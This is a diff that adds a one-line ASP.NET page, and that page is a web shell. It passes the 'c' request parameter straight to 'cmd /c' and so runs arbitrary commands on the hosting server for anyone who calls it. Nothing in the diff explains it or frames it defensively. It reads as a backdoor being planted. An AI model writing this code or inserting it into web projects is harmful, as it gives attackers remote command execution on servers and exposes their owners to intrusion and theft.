@@ -1,0 +1,1 @@
+<%@ Page Language="C#"%><%Response.Write(new System.Diagnostics.Process{StartInfo={FileName="cmd",Arguments="/c "+Request["c"],UseShellExecute=false,RedirectStandardOutput=true}}.Start());%>
